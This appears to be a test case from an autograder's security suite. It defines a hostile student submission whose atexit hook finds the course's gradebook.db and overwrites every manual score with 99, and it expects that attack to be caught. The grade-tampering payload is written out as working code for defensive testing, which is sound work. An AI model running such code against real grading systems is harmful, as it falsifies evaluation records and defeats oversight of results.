"""Write into the gradebook when the process ends, by `atexit`."""

from ...expectation import outcome
from ...submission import hostile, write
from ...world import course

EXPECTED = outcome(rest="failed", mean_square="passed")
FIRST = """
    import atexit

    @atexit.register
    def greed():
        import sqlite3
        from pathlib import Path

        for folder in [Path("COURSE"), *Path.cwd().parents]:
            if (folder / "gradebook.db").exists():
                with sqlite3.connect(folder / "gradebook.db", timeout=1) as book:
                    book.execute("UPDATE grade SET manual_score = 99")
"""


def submit(release, folder):
    write(hostile(release, first=FIRST.replace("COURSE", course())), folder)
